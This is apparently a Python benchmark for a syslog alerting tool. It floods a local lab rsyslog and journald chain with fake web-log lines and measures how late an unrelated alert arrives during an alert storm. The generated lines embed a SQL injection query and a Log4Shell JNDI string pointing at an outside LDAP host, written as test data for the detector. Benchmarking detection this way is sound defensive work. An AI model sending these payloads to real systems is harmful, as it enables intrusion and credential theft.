#!/usr/bin/env python3
"""Alert storms through the real chain: how late an unrelated alert arrives during a storm.

Runs (as root) the lab chain of ``bench_latency.py`` (``lwsyslog.lab``: web-host and central
rsyslogd on 127.0.0.1 with RELP/TLS and the shipped drop-ins, the real ``lwsyslog-omprog``
inside a private journald's namespace, alerts to journald and a messages file). A writer
sends SQL injection lines (``UNION SELECT`` in a query, answered 200) from ``--clients``
distinct addresses at ``--rate`` lines/s for ``--secs`` seconds over one TCP syslog
connection into the web host. At ``--markers`` seconds into the storm it sends one unrelated
*marker* line (a Log4Shell User-Agent from its own fixed address, a unique path), and once
before the storm, on a quiet chain, the same kind of line as the baseline.

For each marker: how long from its send until (a) the program handed it to journald
(``_SOURCE_REALTIME_TIMESTAMP``), (b) it is readable with ``journalctl -f``, (c) its line is in
the messages file. Also: alerts written (messages file, journald, by rule), when the last storm
alert arrived after the last line was sent, journald's "Suppressed N messages" if any, and the
lines the central server logged raw. The issue: 100k attack lines from 10,000 addresses gave
40,000 alerts and the next alert arrived 24 s late; target < 1 s.

    .venv/bin/python bench/bench_storm.py                 # 10,000 lines/s for 10 s
    .venv/bin/python bench/bench_storm.py --quick         # 2,000 lines/s for 3 s
    .venv/bin/python bench/bench_storm.py --shards 2      # two programs (setup --shards 2)
    .venv/bin/python bench/bench_storm.py --python system # the program on /usr/bin/python3
    .venv/bin/python bench/bench_storm.py --one-process   # answering and pipeline in one

The report also gives the program's pace at each of its stats lines (every 10,000 lines), and
the interpreter that ran it (see ``program_python.py``).
"""

from __future__ import annotations

import argparse
import contextlib
import json
import re
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections import Counter
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path

from hostile_report import Report
from program_python import describe, program_python

from lwsyslog import lab

__all__ = ["main"]

TARGET_SECS = 1.0
_QUIET_SECS = 5.0
_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36"
_SQLI = "/products.php?id=1%27+UNION+SELECT+username,password+FROM+users--+-&n={n}"
_LOG4SHELL = '"${jndi:ldap://198.51.100.9:1389/a}"'
#: Warm-up markers are numbered from here; 8 of them, from 8 addresses, so that every shard
#: has compiled its scanners (at its first line) before the calm marker is timed.
_WARM_UP = 1000
_WARM_UP_MARKERS = 8


def _client(i: int) -> str:
    return f"10.{i // 64516 % 250}.{i // 254 % 254 + 1}.{i % 254 + 1}"


def _stamp() -> str:
    return time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())


def _attack(i: int, clients: int, stamp: str) -> bytes:
    path = _SQLI.format(n=i)
    return lab.syslog_line(
        f'{_client(i % clients)} - - [{stamp}] "GET {path} HTTP/1.1" 200 1432 "-" "{_UA}"'
    )


def _marker(run: str, k: int) -> bytes:
    """Marker ``k`` (from 1000 on: a warm-up marker, each from an address of its own)."""
    client = f"192.0.2.{10 + k}" if k < _WARM_UP else f"198.51.100.{k - _WARM_UP + 1}"
    return lab.syslog_line(
        f'{client} - - [{_stamp()}] "GET /storm-marker-{run}-{k} HTTP/1.1" 200 512 "-" {_LOG4SHELL}'
    )


@dataclass(slots=True)
class Seen:
    """What the journal follower and the messages-file tail saw."""

    journal: dict[int, float] = field(default_factory=dict)
    stamped: dict[int, float] = field(default_factory=dict)
    messages: dict[int, float] = field(default_factory=dict)
    rules: Counter[str] = field(default_factory=Counter)
    journal_alerts: int = 0
    file_alerts: int = 0
    last_alert: float = 0.0
    lock: threading.Lock = field(default_factory=threading.Lock)


class _Follower:
    """``journalctl -f -o json -t lwsyslog`` in the namespace: counts alerts, times markers."""

    def __init__(self, journal: lab.JournalNamespace, pattern: re.Pattern[str], seen: Seen):
        self.seen = seen
        self.pattern = pattern
        self._proc = subprocess.Popen(
            journal.journalctl(
                "-f", "-o", "json", "-n", "0", "-t", "lwsyslog",
                "--output-fields=LWSYSLOG_RULE,LWSYSLOG_SAMPLE,_SOURCE_REALTIME_TIMESTAMP",
            ),
            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        self._thread = threading.Thread(target=self._read, daemon=True)
        self._thread.start()

    def _read(self) -> None:
        assert self._proc.stdout is not None
        seen = self.seen
        for raw in self._proc.stdout:
            now = time.monotonic()
            try:
                entry = json.loads(raw)
            except ValueError:
                continue
            with seen.lock:
                seen.journal_alerts += 1
                seen.last_alert = now
                seen.rules[str(entry.get("LWSYSLOG_RULE", "?"))] += 1
            match = self.pattern.search(str(entry.get("LWSYSLOG_SAMPLE", "")))
            if match:
                k = int(match.group(1))
                seen.journal.setdefault(k, now)
                stamp = entry.get("_SOURCE_REALTIME_TIMESTAMP") or entry.get("__REALTIME_TIMESTAMP")
                with contextlib.suppress(TypeError, ValueError):
                    seen.stamped.setdefault(k, int(str(stamp)) / 1e6)

    def stop(self) -> None:
        lab.stop_process(self._proc, 5)


class _FileTail(threading.Thread):
    """Reads the messages file as it grows: counts alert lines, times markers."""

    def __init__(self, path: Path, pattern: re.Pattern[bytes], seen: Seen) -> None:
        super().__init__(daemon=True)
        self.path = path
        self.pattern = pattern
        self.seen = seen
        self.done = threading.Event()

    def run(self) -> None:
        offset = 0
        rest = b""
        while not self.done.wait(0.02):
            try:
                with self.path.open("rb") as handle:
                    handle.seek(offset)
                    data = handle.read()
            except OSError:
                continue
            if not data:
                continue
            now = time.monotonic()
            offset += len(data)
            rows = (rest + data).split(b"\n")
            rest = rows.pop()
            self.seen.file_alerts += len(rows)
            for row in rows:
                match = self.pattern.search(row)
                if match:
                    self.seen.messages.setdefault(int(match.group(1)), now)


def _suppressed(journal: lab.JournalNamespace) -> int:
    """Messages journald says it dropped (its "Suppressed N messages" entries)."""
    total = 0
    for entry in journal.entries("SYSLOG_IDENTIFIER=systemd-journald"):
        match = re.search(r"Suppressed (\d+) messages", str(entry.get("MESSAGE", "")))
        if match:
            total += int(match.group(1))
    return total


def _raw_lines(raw_dir: Path) -> int:
    total = 0
    for path in raw_dir.rglob("*.log"):
        with path.open("rb") as handle:
            while chunk := handle.read(1 << 20):
                total += chunk.count(b"\n")
    return total


@dataclass(slots=True)
class Result:
    """One storm's figures."""

    sent: int = 0
    send_secs: float = 0.0
    marker_sent: dict[int, float] = field(default_factory=dict)
    marker_sent_wall: dict[int, float] = field(default_factory=dict)
    storm_start: float = 0.0
    storm_end: float = 0.0
    seen: Seen = field(default_factory=Seen)
    suppressed: int = 0
    raw_lines: int = 0
    stats: str = ""
    progress: list[str] = field(default_factory=list)
    peak_rss: list[str] = field(default_factory=list)


def _storm(sock: socket.socket, args: argparse.Namespace, run: str, result: Result) -> None:
    total = int(args.rate * args.secs)
    tick = 0.01
    per_tick = max(1, round(args.rate * tick))
    pending_markers = sorted((at, k) for k, at in enumerate(args.markers, 1))
    start = result.storm_start = time.monotonic()
    i = 0
    while i < total:
        due = start + (i / args.rate)
        pause = due - time.monotonic()
        if pause > 0:
            time.sleep(pause)
        stamp = _stamp()
        chunk = [_attack(n, args.clients, stamp) for n in range(i, min(total, i + per_tick))]
        sock.sendall(b"".join(chunk))
        i += len(chunk)
        while pending_markers and time.monotonic() - start >= pending_markers[0][0]:
            _, k = pending_markers.pop(0)
            result.marker_sent[k] = time.monotonic()
            result.marker_sent_wall[k] = time.time()
            sock.sendall(_marker(run, k))
    for _, k in pending_markers:  # a marker due at or after the end goes right after it
        result.marker_sent[k] = time.monotonic()
        result.marker_sent_wall[k] = time.time()
        sock.sendall(_marker(run, k))
    result.sent = total
    result.storm_end = time.monotonic()
    result.send_secs = result.storm_end - start


def measure(args: argparse.Namespace, work: Path) -> Result:
    """Start the chain, send the baseline marker, the storm and its markers; collect."""
    result = Result()
    seen = result.seen
    run = uuid.uuid4().hex[:8]
    text_pattern = re.compile(rf"/storm-marker-{run}-(\d+) ")
    messages = work / "messages"
    with lab.JournalNamespace(work / "journal") as journal:
        program = lab.omprog_command(
            config=lab.write_lab_config(work / "lwsyslog.toml"),
            state_dir=work / "state",
            messages_file=messages,
            # A recent stats line from each shard.
            extra=("--stats-every-lines", "10000", *(["--one-process"] * args.one_process)),
            python=args.program_python,
        )
        with lab.LocalChain(
            work / "chain", program, journal, apache=False, shards=args.shards
        ) as chain:
            follower = _Follower(journal, text_pattern, seen)
            tail = _FileTail(messages, re.compile(text_pattern.pattern.encode()), seen)
            tail.start()
            try:
                with socket.create_connection(("127.0.0.1", chain.input_port)) as sock:
                    # Warm-up (program start, TLS, journalctl following), then the calm marker.
                    sock.sendall(_marker(run, _WARM_UP))
                    lab.wait_for(lambda: _WARM_UP in seen.journal, 60, "the warm-up alert")
                    # Then one line from each of a few more addresses, so that every shard
                    # has compiled its scanners (at its first line) before anything is timed.
                    warm_up = range(_WARM_UP + 1, _WARM_UP + _WARM_UP_MARKERS)
                    sock.sendall(b"".join(_marker(run, k) for k in warm_up))
                    lab.wait_for(
                        lambda: all(k in seen.journal for k in warm_up), 60, "the warm-up alerts"
                    )
                    time.sleep(1.0)
                    result.marker_sent[0] = time.monotonic()
                    result.marker_sent_wall[0] = time.time()
                    sock.sendall(_marker(run, 0))
                    lab.wait_for(lambda: 0 in seen.journal, 30, "the calm marker")
                    time.sleep(1.0)
                    _storm(sock, args, run, result)
                deadline = time.monotonic() + args.drain_timeout
                while time.monotonic() < deadline:
                    time.sleep(0.5)
                    markers_in = all(k in seen.journal for k in result.marker_sent)
                    quiet = time.monotonic() - max(seen.last_alert, result.storm_end)
                    if markers_in and quiet > _QUIET_SECS:
                        break
                time.sleep(0.5)
                result.peak_rss = _peak_rss(chain.omprog_pids())
            finally:
                follower.stop()
                tail.done.set()
                tail.join()
            result.suppressed = _suppressed(journal)
            result.raw_lines = _raw_lines(chain.raw_dir)
            with contextlib.suppress(OSError):
                stats = [  # the last stats line of each program
                    rows[-1]
                    for path in chain.omprog_stderrs
                    if (rows := [r for r in path.read_text(errors="replace").splitlines()
                                 if "stats:" in r])
                ]  # fmt: skip
                result.stats = " | ".join(
                    last.split("stats:", 1)[1].strip()[:400] for last in stats
                )
                result.progress = _progress(chain.omprog_stderrs[0])
    return result


_STATS_FIGURES = re.compile(r"\blines=(\d+) .*?\brate=(\d+)/s .*?\blag=([0-9.]+s)")


def _progress(stderr: Path) -> list[str]:
    """``lines at rate, lag`` of each stats line the (first) program wrote: how its pace
    changed during the storm."""
    found = []
    for row in stderr.read_text(errors="replace").splitlines():
        match = _STATS_FIGURES.search(row) if "stats:" in row else None
        if match:
            lines, rate, lag = match.groups()
            found.append(f"{int(lines):,} lines at {int(rate):,}/s, lag {lag}")
    return found


def _peak_rss(programs: list[int]) -> list[str]:
    """Each program's peak RSS (VmHWM), and its pipeline child's when it has one."""
    found = []
    for pid in programs:
        rows = [f"program {pid}: {_hwm_mib(pid)}"]
        with contextlib.suppress(OSError):
            for child in Path(f"/proc/{pid}/task/{pid}/children").read_text().split():
                rows.append(f"its child {child}: {_hwm_mib(int(child))}")
        found.append(", ".join(rows))
    return found


def _hwm_mib(pid: int) -> str:
    with contextlib.suppress(OSError):
        for row in Path(f"/proc/{pid}/status").read_text().splitlines():
            if row.startswith("VmHWM:"):
                return f"{int(row.split()[1]) / 1024:.1f} MiB"
    return "?"


def _late(sent: float, arrived: float | None) -> str:
    return "not arrived" if arrived is None else f"{arrived - sent:,.2f}"


def _report(report: Report, args: argparse.Namespace, result: Result) -> bool:
    seen = result.seen
    rows = []
    worst = 0.0
    for k in sorted(result.marker_sent):
        sent = result.marker_sent[k]
        wall = result.marker_sent_wall[k]
        journal_at = seen.journal.get(k)
        stamped = seen.stamped.get(k)
        if k:
            worst = max(worst, (journal_at - sent) if journal_at is not None else float("inf"))
        when = "before the storm" if k == 0 else f"{sent - result.storm_start:.1f} s into it"
        rows.append([
            k, when, "-" if stamped is None else f"{stamped - wall:,.2f}", _late(sent, journal_at),
            _late(sent, seen.messages.get(k)),
        ])  # fmt: skip
    interpreter = describe(args.program_python)
    report.line(f"- program's interpreter (`--python {args.python}`): {interpreter}")
    report.line(
        f"- storm: {result.sent:,} SQL injection lines from {args.clients:,} addresses, sent in "
        f"{result.send_secs:.1f} s ({result.sent / result.send_secs:,.0f} lines/s asked "
        f"{args.rate:,}) to {args.shards} omprog program(s)"
        f"{' with --one-process' if args.one_process else ''} (`--shards`: rsyslog splits the "
        f"clients by hash); lines the central server logged raw: {result.raw_lines:,}\n"
    )
    report.table(
        ["marker", "sent", "to journald by the program, s", "readable (`journalctl -f`), s",
         "in the messages file, s"],
        rows, "llrrr",
    )  # fmt: skip
    drain = seen.last_alert - result.storm_end if seen.last_alert else float("nan")
    report.table(
        ["alerts in the messages file", "alerts in journald", "journald 'Suppressed'",
         "last alert after the last line sent, s"],
        [[f"{seen.file_alerts:,}", f"{seen.journal_alerts:,}", f"{result.suppressed:,}",
          f"{drain:,.1f}"]],
        "rrrr",
    )  # fmt: skip
    report.line("Alerts in journald by rule: " + ", ".join(
        f"`{rule}` {count:,}" for rule, count in seen.rules.most_common()) + "\n")  # fmt: skip
    report.line(f"Program's last stats line: `{result.stats or '-'}`\n")
    if result.progress:
        report.line("Program's pace (each stats line): " + "; ".join(result.progress) + "\n")
    if result.peak_rss:
        report.line("Peak RSS (VmHWM) after the storm: " + "; ".join(result.peak_rss) + "\n")
    ok = worst < TARGET_SECS
    report.line(
        f"Target (a marker alert during the storm readable < {TARGET_SECS:g} s after its line "
        f"was sent): {'met' if ok else 'NOT met'} (worst {worst:,.2f} s)\n"
    )
    return ok


def main(argv: Sequence[str] | None = None) -> int:
    """Run the storm; 0 when every marker arrived in time."""
    args = _parse_args(argv)
    if args.quick:
        args.rate, args.secs, args.clients, args.markers = 2000, 3.0, 2000, [1.5]
    reason = lab.missing_requirements(apache=False)
    if reason:
        print(f"bench_storm: {reason}", file=sys.stderr)
        return 2
    report = Report("storm", "Alert storm through the chain (bench_storm.py)", argv)
    with tempfile.TemporaryDirectory(prefix="lwsyslog-storm-") as tmp:
        result = measure(args, Path(tmp))
    ok = _report(report, args, result)
    report.save()
    return 0 if ok else 1


def _parse_args(argv: Sequence[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(
        description=__doc__.splitlines()[0] if __doc__ else None,
        formatter_class=argparse.RawDescriptionHelpFormatter,
        epilog="Writes bench/out/storm-<time>.md. Needs root (private journald, rsyslogd).",
    )
    parser.add_argument("--rate", type=int, default=10_000, help="attack lines/s (10000)")
    parser.add_argument("--secs", type=float, default=10.0, help="storm length (10 s)")
    parser.add_argument("--clients", type=int, default=10_000, help="distinct addresses")
    parser.add_argument(
        "--markers",
        type=float,
        nargs="+",
        default=[5.0, 10.0],
        help="seconds into the storm to send a marker (5 10)",
    )
    parser.add_argument(
        "--drain-timeout",
        type=float,
        default=180.0,
        help="wait at most this long after the storm for alerts (180 s)",
    )
    parser.add_argument(
        "--shards", type=int, default=1, help="omprog programs sharded by client (1)"
    )
    parser.add_argument(
        "--python",
        default="this",
        metavar="PYTHON",
        help="interpreter of lwsyslog-omprog: 'this' (the one running the benchmark), "
        "'system' (a venv of /usr/bin/python3, as the Debian package runs it) or a path",
    )
    parser.add_argument(
        "--one-process",
        action="store_true",
        help="run the program with --one-process (no pipeline child), as before 2026-12-06",
    )
    parser.add_argument("--quick", action="store_true", help="2,000 lines/s for 3 s")
    args = parser.parse_args(argv)
    args.program_python = program_python(args.python)
    return args  # fmt: skip


if __name__ == "__main__":
    sys.exit(main())
